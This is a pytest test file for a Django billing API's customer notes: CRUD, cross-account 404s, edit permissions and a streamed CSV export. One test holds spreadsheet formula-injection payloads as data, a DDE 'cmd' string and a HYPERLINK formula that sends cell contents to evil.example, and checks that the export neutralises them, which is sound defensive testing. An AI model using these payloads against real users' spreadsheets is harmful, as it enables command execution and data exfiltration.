"""Notes on the account's customers (SPEC §4): CRUD under `customers/<id>/notes/`, who may change a note, another
account's customer or note → 404, and `notes/export.csv`, a streamed CSV that a spreadsheet reads as written and
that streams 100,000 notes with flat memory (through the test client and through ASGI, as daphne serves it).

Notes are our own records: Stripe is never called, so there is no 422 or 502 to show; writing notes works with
no Stripe connection at all."""

import asyncio
import codecs
import csv
import io
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.utils import timezone

from billing.models import Customer, CustomerNote
from billing.stripe.mirror import upsert_objects
from tests.conftest import PASSWORD, token_for
from tests.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/billing/notes/export.csv"


def notes_url(customer_id: str, note_id: int | None = None) -> str:
    url = f"/api/v1/billing/customers/{customer_id}/notes/"
    return f"{url}{note_id}/" if note_id is not None else url


def mirror_customer(account, stripe_id="cus_1", **fields) -> Customer:
    upsert_objects(account, "customer", [{"id": stripe_id, "object": "customer", **fields}])
    return Customer.objects.get(account=account, stripe_id=stripe_id)


def member_client(account, role="member", **user_fields):
    from rest_framework.test import APIClient

    user = UserFactory(password=PASSWORD, **user_fields)
    MembershipFactory(user=user, account=account, role=role)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {token_for(user, account)}")
    return client, user


# --- CRUD ---------------------------------------------------------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_notes_on_a_customer_created_in_the_local_stripe(api, live, stripe, owner):
    customer = api.post("/api/v1/billing/customers/", {"email": "ada@example.com"}, format="json").json()
    owner.first_name, owner.last_name = "Zoë", "Ångström"
    owner.save()

    created = api.post(notes_url(customer["id"]), {"body": "  Wants annual billing.\n"}, format="json")

    assert created.status_code == 201, created.content
    note = created.json()
    assert note["customer"] == customer["id"] and note["body"] == "Wants annual billing."
    assert note["author"] == {"id": owner.id, "name": "Zoë Ångström", "email": owner.email}
    assert note["created_at"] and note["updated_at"]
    assert api.get(notes_url(customer["id"], note["id"])).json() == note
    assert [n["id"] for n in api.get(notes_url(customer["id"])).json()["results"]] == [note["id"]]
    # Nothing of it went to Stripe.
    assert stripe.get(f"/v1/customers/{customer['id']}")["metadata"] == {}


def test_notes_need_no_stripe_connection(api, account):
    mirror_customer(account)  # the account is not connected: any Stripe call would be a 409
    created = api.post(notes_url("cus_1"), {"body": "first"}, format="json")
    assert created.status_code == 201
    note_id = created.json()["id"]
    assert api.patch(notes_url("cus_1", note_id), {"body": "second"}, format="json").json()["body"] == "second"
    assert api.delete(notes_url("cus_1", note_id)).status_code == 204
    assert not CustomerNote.objects.exists()


def test_update_changes_the_body_and_updated_at(api, account):
    mirror_customer(account)
    note = api.post(notes_url("cus_1"), {"body": "first"}, format="json").json()

    updated = api.patch(notes_url("cus_1", note["id"]), {"body": "second"}, format="json")

    assert updated.status_code == 200
    assert updated.json()["body"] == "second" and updated.json()["created_at"] == note["created_at"]
    assert updated.json()["updated_at"] >= note["updated_at"]
    assert CustomerNote.objects.get().body == "second"
    assert api.put(notes_url("cus_1", note["id"]), {"body": "x"}, format="json").status_code == 405


def test_list_is_newest_first_and_cursor_paged(api, account):
    customer = mirror_customer(account)
    other = mirror_customer(account, "cus_2")
    base = datetime(2025, 1, 1, tzinfo=UTC)
    notes = CustomerNote.objects.bulk_create(
        CustomerNote(account=account, customer=customer, body=f"n{i}") for i in range(7)
    )
    for i, note in enumerate(notes):
        CustomerNote.objects.filter(pk=note.pk).update(created_at=base.replace(day=1 + i))
    CustomerNote.objects.create(account=account, customer=other, body="on another customer")

    first = api.get(notes_url("cus_1"), {"page_size": 3}).json()
    assert [n["body"] for n in first["results"]] == ["n6", "n5", "n4"]
    # A note written meanwhile (newest: before page one) shifts nothing.
    api.post(notes_url("cus_1"), {"body": "new"}, format="json")
    second = api.get(first["next"]).json()
    third = api.get(second["next"]).json()
    assert [n["body"] for n in second["results"] + third["results"]] == ["n3", "n2", "n1", "n0"]
    assert third["next"] is None
    window = api.get(notes_url("cus_1"), {"created_after": "2025-01-03", "created_before": "2025-01-05T00:00:00Z"})
    assert [n["body"] for n in window.json()["results"]] == ["n3", "n2"]


def test_bad_bodies_are_400s_naming_the_field(api, account):
    mirror_customer(account)
    for body, field in (
        ({}, "body"),
        ({"body": ""}, "body"),
        ({"body": "   \n "}, "body"),
        ({"body": "x" * 10_001}, "body"),
        ({"body": None}, "body"),
        ({"body": "ok", "bdoy": "typo"}, "bdoy"),
    ):
        response = api.post(notes_url("cus_1"), body, format="json")
        assert response.status_code == 400, body
        assert response.json()["error"]["code"] == "validation_error"
        assert field in response.json()["error"]["details"]["fields"], body
    assert api.post(notes_url("cus_1"), {"body": "x" * 10_000}, format="json").status_code == 201
    note_id = CustomerNote.objects.get().id
    assert api.patch(notes_url("cus_1", note_id), {"body": ""}, format="json").status_code == 400
    assert CustomerNote.objects.get().body == "x" * 10_000


def test_bad_query_parameters_are_400s(api, account):
    mirror_customer(account)
    for params, field in (
        ({"ordering": "body"}, "ordering"),
        ({"created_after": "no"}, "created_after"),
        ({"created_before": ""}, "created_before"),  # empty is not "no filter"
    ):
        response = api.get(notes_url("cus_1"), params)
        assert response.status_code == 400 and field in response.json()["error"]["details"]["fields"], params
    assert api.get(notes_url("cus_1"), {"cursor": "x"}).status_code == 404  # no such page (core/api/pagination.py)


def test_another_accounts_customer_or_note_is_a_404(api, account, other_account):
    mirror_customer(account)
    theirs = mirror_customer(other_account, "cus_theirs")
    their_note = CustomerNote.objects.create(account=other_account, customer=theirs, body="secret")
    # Our customer with their note's id; their customer with ours.
    assert api.get(notes_url("cus_1", their_note.id)).status_code == 404
    assert api.patch(notes_url("cus_1", their_note.id), {"body": "mine"}, format="json").status_code == 404
    assert api.delete(notes_url("cus_1", their_note.id)).status_code == 404
    for call in (
        lambda: api.get(notes_url("cus_theirs")),
        lambda: api.post(notes_url("cus_theirs"), {"body": "x"}, format="json"),
        lambda: api.get(notes_url("cus_theirs", their_note.id)),
        lambda: api.patch(notes_url("cus_theirs", their_note.id), {"body": "x"}, format="json"),
        lambda: api.delete(notes_url("cus_theirs", their_note.id)),
    ):
        response = call()
        assert response.status_code == 404 and response.json()["error"]["code"] == "not_found"
    assert CustomerNote.objects.get(pk=their_note.pk).body == "secret"
    assert CustomerNote.objects.filter(account=account).count() == 0
    # A note of another customer of the same account is not found under this one either.
    mine = CustomerNote.objects.create(account=account, customer=mirror_customer(account, "cus_2"), body="b")
    assert api.get(notes_url("cus_1", mine.id)).status_code == 404
    assert api.get(notes_url("cus_nobody")).status_code == 404


def test_a_customer_deleted_in_stripe_has_no_notes_endpoint(api, account):
    mirror_customer(account)
    Customer.objects.filter(stripe_id="cus_1").update(deleted=True)
    assert api.get(notes_url("cus_1")).status_code == 404


def test_members_write_and_only_authors_or_admins_change(api, account):
    mirror_customer(account)
    writer, writer_user = member_client(account)
    colleague, _ = member_client(account)
    admin, _ = member_client(account, role="admin")

    note = writer.post(notes_url("cus_1"), {"body": "mine"}, format="json")
    assert note.status_code == 201 and note.json()["author"]["id"] == writer_user.id
    note_url = notes_url("cus_1", note.json()["id"])

    assert colleague.get(note_url).status_code == 200  # every member reads every note
    refused = colleague.patch(note_url, {"body": "hijacked"}, format="json")
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"
    assert colleague.delete(note_url).status_code == 403
    assert CustomerNote.objects.get().body == "mine"

    assert writer.patch(note_url, {"body": "mine, edited"}, format="json").status_code == 200
    assert admin.patch(note_url, {"body": "tidied by an admin"}, format="json").status_code == 200
    assert api.delete(note_url).status_code == 204  # the owner

    # A note whose author left (user deleted): its author is null, and only owners and admins change it.
    orphan = writer.post(notes_url("cus_1"), {"body": "orphan"}, format="json").json()
    writer_user.delete()
    assert api.get(notes_url("cus_1", orphan["id"])).json()["author"] is None
    assert colleague.delete(notes_url("cus_1", orphan["id"])).status_code == 403
    assert admin.delete(notes_url("cus_1", orphan["id"])).status_code == 204


def test_list_costs_a_constant_number_of_queries(api, account, django_assert_max_num_queries):
    customer = mirror_customer(account)
    authors = [member_client(account)[1] for _ in range(3)]

    def add(n):
        CustomerNote.objects.bulk_create(
            CustomerNote(account=account, customer=customer, author=authors[i % 3], body=f"n{i}") for i in range(n)
        )

    add(2)
    with django_assert_max_num_queries(6):
        small = api.get(notes_url("cus_1"), {"page_size": 200})
    add(150)
    with django_assert_max_num_queries(6):
        large = api.get(notes_url("cus_1"), {"page_size": 200})
    assert len(small.json()["results"]) == 2 and len(large.json()["results"]) == 152
    assert {n["author"]["id"] for n in large.json()["results"]} == {a.id for a in authors}


# --- the CSV export -----------------------------------------------------------------------------------------
def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content)
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))


HEADER = [
    "note_id",
    "created_at",
    "updated_at",
    "customer_id",
    "customer_email",
    "customer_name",
    "author",
    "author_email",
    "body",
]
TRICKY = 'Zoë Ångström, "CEO"\nline2'


def test_the_csv_reads_back_as_written(api, account, owner):
    owner.first_name, owner.last_name = "Zoë", 'Ångström, "CEO"'
    owner.save()
    customer = mirror_customer(account, email="zoe@example.com", name=TRICKY)
    api.post(notes_url("cus_1"), {"body": TRICKY}, format="json")
    api.post(notes_url("cus_1"), {"body": "Ça va ? 東京\r\nfin, « ok »"}, format="json")
    CustomerNote.objects.create(account=account, customer=customer, author=None, body="no author")

    response = api.get(EXPORT)

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.now().date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="notes-{today}.csv"'
    rows = read_csv(response)
    assert rows[0] == HEADER
    first, second, third = rows[1:]
    note = CustomerNote.objects.order_by("id").first()
    assert first[0] == str(note.id)
    assert first[1] == note.created_at.astimezone(UTC).isoformat(timespec="seconds").replace("+00:00", "Z")
    assert first[3:] == ["cus_1", "zoe@example.com", TRICKY, 'Zoë Ångström, "CEO"', owner.email, TRICKY]
    assert second[8] == "Ça va ? 東京\r\nfin, « ok »"
    assert third[6:] == ["", "", "no author"]


def test_formula_cells_are_neutralised(api, account):
    mirror_customer(account, name="=cmd|' /C calc'!A0", email="@evil.example")
    for body in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "a=1"):
        api.post(notes_url("cus_1"), {"body": body}, format="json")
    rows = read_csv(api.get(EXPORT))[1:]
    assert [row[8] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "x",  # the API trims spaces around a body, a leading tab included
        "a=1",  # only the first character starts a formula
    ]
    assert rows[0][4:6] == ["'@evil.example", "'=cmd|' /C calc'!A0"]


def test_export_filters_by_customer_and_date(api, account, other_account):
    first, second = mirror_customer(account), mirror_customer(account, "cus_2")
    theirs = mirror_customer(other_account, "cus_theirs")
    for day, customer in ((1, first), (2, second), (3, first), (4, first)):
        note = CustomerNote.objects.create(account=account, customer=customer, body=f"day {day}")
        CustomerNote.objects.filter(pk=note.pk).update(created_at=datetime(2025, 3, day, 12, tzinfo=UTC))
    CustomerNote.objects.create(account=other_account, customer=theirs, body="theirs")

    def bodies(**params):
        return [row[8] for row in read_csv(api.get(EXPORT, params))[1:]]

    assert bodies() == ["day 1", "day 2", "day 3", "day 4"]  # oldest first; never another account's
    assert bodies(customer="cus_1") == ["day 1", "day 3", "day 4"]
    assert bodies(created_after="2025-03-02", created_before="2025-03-04") == ["day 2", "day 3"]
    assert bodies(customer="cus_1", created_after="2025-03-03T12:00:00Z") == ["day 3", "day 4"]
    assert bodies(created_before="2025-03-03T13:30:00+01:00") == ["day 1", "day 2", "day 3"]  # 12:30Z
    assert bodies(created_before="2025-03-03T12:30:00+01:00") == ["day 1", "day 2"]  # 11:30Z
    assert bodies(customer="cus_theirs") == []  # another account's customer: nothing of theirs
    assert read_csv(api.get(EXPORT, {"customer": "cus_theirs"}))[0] == HEADER


def test_bad_export_filters_are_400s_before_any_csv(api, account):
    for params, field in (
        ({"created_after": "yesterday"}, "created_after"),
        ({"created_before": "2025-13-01"}, "created_before"),
        ({"created_after": ""}, "created_after"),  # empty is not "no filter"
    ):
        response = api.get(EXPORT, params)
        assert response.status_code == 400, params
        assert response["Content-Type"] == "application/json"
        assert field in response.json()["error"]["details"]["fields"], params
    # A client asking for CSV still gets its error as the one JSON shape.
    response = api.get(EXPORT, {"created_after": "no"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 400 and response.json()["error"]["code"] == "validation_error"


def test_any_member_exports_and_strangers_do_not(account, client):
    mirror_customer(account)
    member, _ = member_client(account)
    assert member.post(notes_url("cus_1"), {"body": "hello"}, format="json").status_code == 201
    assert read_csv(member.get(EXPORT, HTTP_ACCEPT="text/csv"))[1][8] == "hello"
    assert client.get(EXPORT).status_code == 401


def test_export_reads_its_rows_in_one_query(api, account, django_assert_max_num_queries):
    customer = mirror_customer(account)
    CustomerNote.objects.bulk_create(CustomerNote(account=account, customer=customer, body="x") for _ in range(300))
    with django_assert_max_num_queries(6):
        rows = read_csv(api.get(EXPORT))
    assert len(rows) == 301


# --- 100,000 notes, flat memory -----------------------------------------------------------------------------
def add_notes(account, customers, authors, count: int, start: int) -> None:
    for batch_start in range(start, start + count, 5000):
        CustomerNote.objects.bulk_create(
            CustomerNote(
                account=account,
                customer_id=customers[i % len(customers)].pk,
                author_id=authors[i % len(authors)].pk,
                body=f'Note {i}: Zoë Ångström, "CEO", called about invoice {i} and wants it resent.',
            )
            for i in range(batch_start, min(batch_start + 5000, start + count))
        )


def measure(chunks) -> dict:
    """Consumes a streamed body chunk by chunk (keeping none), under tracemalloc started by the caller."""
    rows = count = biggest = 0
    for chunk in chunks:
        count += 1
        biggest = max(biggest, len(chunk))
        rows += chunk.count(b"\r\n")
    _, peak = tracemalloc.get_traced_memory()
    return {"rows": rows - 1, "chunks": count, "biggest_chunk": biggest, "peak": peak}


def export_through_the_test_client(api) -> dict:
    tracemalloc.start()
    try:
        response = api.get(EXPORT)
        assert response.status_code == 200 and response.streaming
        return measure(response.streaming_content)
    finally:
        tracemalloc.stop()


def export_through_asgi(token: str) -> dict:
    """The export as daphne serves it: Django's ASGI handler, every `http.response.body` message counted and
    dropped as it is sent."""
    from billing_project.asgi import django_asgi_app

    bodies = []
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": EXPORT,
        "raw_path": EXPORT.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {token}".encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    received = []
    stats = {"rows": -1, "chunks": 0, "biggest_chunk": 0}

    async def receive():
        if not received:
            received.append(True)
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.Event().wait()  # the client stays connected

    async def send(message):
        if message["type"] == "http.response.start":
            bodies.append(message["status"])
        elif message.get("body"):
            stats["chunks"] += 1
            stats["biggest_chunk"] = max(stats["biggest_chunk"], len(message["body"]))
            stats["rows"] += message["body"].count(b"\r\n")

    tracemalloc.start()
    try:
        asyncio.run(django_asgi_app(scope, receive, send))
        stats["peak"] = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert bodies == [200]
    return stats


MB = 1024 * 1024


@pytest.mark.django_db(transaction=True)  # the ASGI handler reads from a thread (and connection) of its own
def test_export_streams_100000_notes_with_flat_memory(api, account, owner):
    customers = [mirror_customer(account, f"cus_{i}", name=f"Ōtake {i}", email=f"c{i}@example.com") for i in range(20)]
    authors = [owner, *(member_client(account)[1] for _ in range(4))]

    add_notes(account, customers, authors, 10_000, start=0)
    small = export_through_the_test_client(api)
    add_notes(account, customers, authors, 90_000, start=10_000)
    large = export_through_the_test_client(api)
    under_asgi = export_through_asgi(token_for(owner, account))

    assert small["rows"] == 10_000 and large["rows"] == under_asgi["rows"] == 100_000
    for run in (small, large, under_asgi):
        assert run["chunks"] > 20 and run["biggest_chunk"] < 72 * 1024, run  # streamed, ~60 KiB at a time
        assert run["peak"] < 20 * MB, run
    # Ten times the rows, the same memory: what grows with the file is never held.
    assert large["peak"] < small["peak"] * 1.25 + 1 * MB, (small, large)
    assert under_asgi["peak"] < small["peak"] * 1.25 + 2 * MB, (small, under_asgi)
